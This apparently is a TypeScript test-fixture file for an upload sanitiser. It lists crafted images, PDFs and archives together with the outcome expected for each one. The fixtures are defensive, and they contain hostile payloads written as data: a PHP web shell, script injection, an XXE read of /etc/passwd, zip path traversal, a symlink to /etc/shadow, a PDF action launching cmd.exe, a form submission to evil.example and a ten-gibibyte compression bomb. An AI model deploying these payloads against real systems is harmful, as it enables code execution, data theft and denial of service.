import { deflateRawSync, constants } from 'node:zlib';
import type { Refusal } from '../content/picture.ts';
import { EICAR } from '../scan/signatures.ts';
import { zip } from './archives.ts';
import {
  circularResources,
  deepArrays,
  doublingTree,
  endlessNames,
  hiddenData,
  hiddenForm,
  hiddenProgram,
  manyStreams,
  unnumberedTable,
} from './hostile.ts';
import { objectStream, pagesOf, pdf, stream } from './pdfs.ts';
import { gif, hugePng, jpeg, jpegWithComment, png, pngWithText, progressive, tiff, webp, withLocation } from './pictures.ts';

/** The outcome of an upload: KEPT (stored without the planted content) or the reason it is refused (quality S4). */
export type Outcome = readonly [file: string, bytes: Buffer, outcome: 'KEPT' | Refusal, planted?: string];

const SCRIPT = '<script>alert(1)</script>';
const PHP = '<?php system($_GET[0]); ?>';
const text = (s: string) => Buffer.from(s, 'latin1');
const onOpen = (action: string) => pdf({ catalog: '/OpenAction 4 0 R', objects: [action] });
const JS = '<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>';

/** Ten gibibytes of zeros in ten mebibytes: one piece of a deflate stream, repeated. */
function bomb(): Buffer {
  const piece = deflateRawSync(Buffer.alloc(16 * 1_048_576), { level: 9, finishFlush: constants.Z_FULL_FLUSH });
  return Buffer.concat([Buffer.from([0x78, 0xda]), ...Array.from({ length: 640 }, () => piece)]);
}
const packed = (body: Buffer, members = '') =>
  Buffer.concat([text(`<< /Filter /FlateDecode /Length ${body.length} ${members} >>\nstream\n`), body, text('\nendstream')]);

const office = zip([
  { name: '[Content_Types].xml', data: text('<!DOCTYPE t [<!ENTITY x SYSTEM "file:///etc/passwd">]><t>&x;</t>') },
  { name: 'word/document.xml', data: text('<w:document/>') },
]);
const nested = zip([{ name: 'inner.zip', data: zip([{ name: 'a', data: Buffer.alloc(1_000_000) }]) }]);

const PLAIN: readonly Outcome[] = [
  ['nothing', Buffer.alloc(0), 'EMPTY'],
  ['one byte', text('x'), 'UNSUPPORTED'],
  ['a picture as JPEG', jpeg, 'KEPT'],
  ['a picture as PNG', png, 'KEPT'],
  ['a progressive JPEG', progressive, 'KEPT'],
  ['a PDF', pdf(), 'KEPT'],
  ['a PDF with compressed objects', pdf({ objects: [objectStream(9, ['<< /A 1 >>', '<< /B 2 >>'])] }), 'KEPT'],
  ['a PDF with a filled-in form', pdf({ catalog: '/AcroForm << /Fields [] >>' }), 'KEPT'],
  ['a PDF with a link', pdf({ objects: ['<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://lender.example) >> >>'] }), 'KEPT'],
  ['a PDF with an incremental update', Buffer.concat([pdf(), pdf({ header: '' })]), 'KEPT'],
  ['a PDF whose text mentions /JavaScript', pdf({ objects: [stream('BT (see /JS in the manual) Tj ET')] }), 'KEPT'],
  ['a picture with its location', withLocation, 'KEPT', 'PLANTED-EXIF'],
];

const OTHER_KINDS: readonly Outcome[] = [
  ['a GIF', gif, 'UNSUPPORTED'],
  ['a WebP', webp, 'UNSUPPORTED'],
  ['a TIFF', tiff, 'UNSUPPORTED'],
  ['an SVG with a script', text(`<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`), 'UNSUPPORTED'],
  ['an HTML page named statement.pdf', text(`<!doctype html><html>${SCRIPT}</html>`), 'UNSUPPORTED'],
  ['a script', text('#!/bin/sh\nrm -rf /\n'), 'UNSUPPORTED'],
  ['a Windows program', text('MZ\u0090\u0000\u0003'), 'UNSUPPORTED'],
  ['a Linux program', text('\u007fELF\u0002\u0001'), 'UNSUPPORTED'],
  ['a text', text('Dear sir or madam'), 'UNSUPPORTED'],
  ['a Word file with an external entity', office, 'UNSUPPORTED'],
  ['an archive', zip([{ name: 'a.pdf', data: pdf() }]), 'UNSUPPORTED'],
  ['an archive with a path outside its folder', zip([{ name: '../../etc/cron.d/x', data: text('x') }]), 'UNSUPPORTED'],
  ['an archive with a link to a secret', zip([{ name: 'x', data: text('/etc/shadow'), link: true }]), 'UNSUPPORTED'],
  ['an archive in an archive', nested, 'UNSUPPORTED'],
  ['an archive that grows to gigabytes', zip([{ name: 'x', data: Buffer.alloc(20_000_000) }]), 'UNSUPPORTED'],
];

const TWO_AT_ONCE: readonly Outcome[] = [
  ['a GIF that is also a script', text(`GIF89a/*${'\u0000'.repeat(20)}*/=1;alert(1)`), 'UNSUPPORTED'],
  ['a PDF that is also an HTML page', pdf({ header: `%PDF-1.7\n%<html>${SCRIPT}\n` }), 'MIXED'],
  ['a PDF after an HTML page', Buffer.concat([text(`<html>${SCRIPT}`), pdf()]), 'UNSUPPORTED'],
  ['a PDF that begins after a kilobyte', Buffer.concat([Buffer.alloc(1000, 32), pdf()]), 'UNSUPPORTED'],
  ['a PDF with an archive appended', pdf({ after: zip([{ name: 'x', data: text('x') }]) }), 'MIXED'],
  ['a PDF with an archive in it', pdf({ objects: [stream(zip([{ name: 'x', data: text('x') }]), '', true)] }), 'MIXED'],
  ['a PDF with a program appended', pdf({ after: '\nMZ\u0090\u0000' }), 'MIXED'],
  ['a PDF that is also PHP', pdf({ objects: [stream(PHP, '', true)] }), 'MIXED'],
  ['a JPEG that is also PHP', jpegWithComment(PHP), 'KEPT', '<?php'],
  ['a JPEG with an archive appended', Buffer.concat([jpeg, zip([{ name: 'x', data: text('planted-in-zip') }])]), 'KEPT', 'PK\u0003\u0004'],
  ['a PNG with a script in a comment', pngWithText(SCRIPT), 'KEPT', '<script'],
  ['a PNG with an HTML page appended', Buffer.concat([png, text(`<html>${SCRIPT}`)]), 'KEPT', '<html'],
  ['an HTML page that begins like a JPEG', Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), text(`<html>${SCRIPT}`)]), 'DAMAGED'],
];

const INFECTED: readonly Outcome[] = [
  ['the test virus', text(EICAR), 'INFECTED'],
  ['the test virus in a JPEG', jpegWithComment(EICAR), 'INFECTED'],
  ['the test virus appended to a PNG', Buffer.concat([png, text(EICAR)]), 'INFECTED'],
  ['the test virus in a PDF', pdf({ objects: [stream(EICAR, '', true)] }), 'INFECTED'],
  ['the test virus compressed in a PDF', pdf({ objects: [stream(`${'x'.repeat(65_500)}${EICAR}`)] }), 'INFECTED'],
];

const ACTIVE: readonly Outcome[] = [
  ['a PDF that runs a script', onOpen(JS), 'ACTIVE'],
  ['a PDF with an escaped script name', onOpen('<< /S /J#61va#53cript /#4AS (app.alert\\(1\\)) >>'), 'ACTIVE'],
  ['a PDF with a script in compressed objects', pdf({ catalog: '/OpenAction 9 0 R', objects: [objectStream(9, [JS])] }), 'ACTIVE'],
  ['a PDF with a script inside a stream', pdf({ objects: [stream(`9 0 obj ${JS} endobj`, '', true)] }), 'ACTIVE'],
  ['a PDF with an unreferenced script', pdf({ objects: [JS] }), 'ACTIVE'],
  ['a PDF that starts a program', onOpen('<< /S /Launch /F (cmd.exe) >>'), 'ACTIVE'],
  ['a PDF with an embedded file', pdf({ objects: [stream('x', '/Type /EmbeddedFile')] }), 'ACTIVE'],
  ['a PDF that opens another', onOpen('<< /S /GoToR /F (other.pdf) /D [0 /Fit] >>'), 'ACTIVE'],
  ['a PDF that submits a form', onOpen('<< /S /SubmitForm /F (https://evil.example) >>'), 'ACTIVE'],
  ['a PDF with an XML form', pdf({ catalog: '/AcroForm << /XFA 4 0 R >>', objects: [stream('<xdp/>')] }), 'ACTIVE'],
  ['a PDF with a video', pdf({ objects: ['<< /Subtype /RichMedia >>'] }), 'ACTIVE'],
];

const UNREADABLE: readonly Outcome[] = [
  ['a PDF with a password', pdf({ trailer: '/Encrypt 4 0 R', objects: ['<< /Filter /Standard /V 5 >>'] }), 'PROTECTED'],
  ['a PDF with a password and an escaped name', pdf({ trailer: '/#45ncrypt 4 0 R', objects: ['<< /Filter /Standard >>'] }), 'PROTECTED'],
  ['a PDF whose page tree contains itself', pdf({ pages: '/Kids [2 0 R] /Count 1' }), 'DAMAGED'],
  [
    'a PDF with a circular page tree',
    pdf({ pages: '/Kids [4 0 R] /Count 1', objects: ['<< /Type /Pages /Kids [5 0 R] >>', '<< /Type /Pages /Kids [4 0 R] >>'] }),
    'DAMAGED',
  ],
  ['a PDF without a page', pdf({ pages: '/Kids [] /Count 0' }), 'DAMAGED'],
  ['a PDF of ten thousand pages', pagesOf(10_000), 'TOO_MANY_PAGES'],
  ['a PDF that shows one page a thousand times', pdf({ pages: `/Kids [${'3 0 R '.repeat(1000)}] /Count 1000` }), 'TOO_MANY_PAGES'],
  ['a PDF of three hundred pages', pagesOf(300), 'KEPT'],
  ['half a PDF', pagesOf(50).subarray(0, 1500), 'DAMAGED'],
  ['the beginning of a PDF', text('%PDF-1.7\n'), 'DAMAGED'],
  ['a PDF that grows to ten gigabytes', pdf({ objects: [packed(bomb())] }), 'TOO_DENSE'],
  [
    'a PDF whose objects grow to gigabytes',
    pdf({ objects: [packed(bomb().subarray(0, 200_000), '/Type /ObjStm /N 1 /First 4')] }),
    'TOO_DENSE',
  ],
  [
    'a PDF whose objects are compressed in an unusual way',
    pdf({ objects: [stream('9 0 x', '/Filter /LZWDecode /Type /ObjStm /N 1 /First 4', true)] }),
    'DAMAGED',
  ],
  ['a PDF whose compressed objects are broken', pdf({ objects: [packed(text('not packed'), '/Type /ObjStm /N 1 /First 4')] }), 'DAMAGED'],
  ['a PDF of open parentheses', pdf({ after: `${'('.repeat(2_000_000)}\n%%EOF` }), 'KEPT'],
  ['a PNG of 50,000 by 50,000', hugePng(50_000, 50_000, 1), 'TOO_MANY_PIXELS'],
  ['a PNG of 12,000 by 12,000', hugePng(12_000, 12_000, 1), 'TOO_MANY_PIXELS'],
  ['a PNG with most of its data missing', hugePng(4000, 4000, 10), 'DAMAGED'],
  ['the beginning of a PNG', png.subarray(0, 20), 'DAMAGED'],
  ['half a JPEG', jpeg.subarray(0, jpeg.length / 2), 'DAMAGED'],
];

const COSTLY: readonly Outcome[] = [
  ['a PDF whose table of objects has no numbers', unnumberedTable(4000), 'DAMAGED'],
  ['a PDF whose table of objects has two million entries, none a number', unnumberedTable(2_000_000), 'DAMAGED'],
  ['a PDF whose page tree doubles at each of 45 levels', doublingTree(45), 'DAMAGED'],
  ['a PDF of two million names', endlessNames(4_200_000), 'TOO_DENSE'],
  ['a PDF of eight thousand streams', manyStreams(8000), 'KEPT'],
  ['a PDF of arrays in arrays', deepArrays(1_000_000), 'KEPT'],
];

const HIDDEN: readonly Outcome[] = [
  ['a PDF with a program in the body of a stream', hiddenProgram, 'KEPT', 'invoice.exe'],
  ['a PDF with an XML form in the body of a stream', hiddenForm, 'KEPT', 'planted-form'],
  ['a PDF with text in members that draw nothing', hiddenData(jpeg), 'KEPT', 'planted-resource'],
  ['a PDF with data of another program beside a drawing', hiddenData(jpeg), 'KEPT', 'planted-piece'],
  ['a PDF with metadata', hiddenData(jpeg), 'KEPT', 'planted-metadata'],
  ['a PDF with a comment in its picture', hiddenData(jpegWithComment('planted-comment')), 'KEPT', 'planted-comment'],
  ['a PDF with data behind the end of its picture', hiddenData(Buffer.concat([jpeg, text('planted-behind')])), 'KEPT', 'planted-behind'],
  ['a PDF with text between its objects', pdf({ objects: ['null\nendobj\nplanted-between'] }), 'KEPT', 'planted-between'],
  ['a PDF whose drawing draws itself', circularResources(), 'KEPT'],
];

export const OUTCOMES: readonly Outcome[] = [
  ...COSTLY,
  ...HIDDEN,
  ...PLAIN,
  ...OTHER_KINDS,
  ...TWO_AT_ONCE,
  ...INFECTED,
  ...ACTIVE,
  ...UNREADABLE,
];
